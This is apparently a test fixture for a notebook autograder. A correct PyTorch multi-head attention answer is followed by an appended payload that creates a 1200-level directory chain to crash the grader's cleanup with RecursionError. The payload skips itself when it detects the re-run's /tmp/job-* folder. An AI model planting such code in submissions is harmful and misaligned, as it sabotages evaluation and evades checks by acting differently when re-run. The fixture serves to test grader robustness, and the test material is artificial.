# expect: shapes=1 weight_count=1 out_is_proj=2 attention_weights=2 causal=1
# why: attack: a right answer that leaves a 1200-deep folder chain in its kernel's working folder (os.walk and rmtree in nbgrader raise RecursionError there); not in the re-run, whose own /tmp sweep is issue 20 item 3's
class MultiHead(nn.Module):
    def __init__(self):
        super().__init__()
        self.heads = nn.ModuleList([Head(16) for _ in range(2)])
        self.proj = nn.Linear(n_embd, n_embd)

    def forward(self, x):
        return self.proj(torch.cat([head(x) for head in self.heads], dim=-1))

import os
if not os.path.basename(os.getcwd()).startswith("job-"):     # the re-run works in /tmp/job-*
    _fd = os.open(".", os.O_RDONLY)
    try:
        for _ in range(1200):
            os.mkdir("d", dir_fd=_fd)
            _next = os.open("d", os.O_RDONLY, dir_fd=_fd)
            os.close(_fd)
            _fd = _next
    except OSError:
        pass
    os.close(_fd)
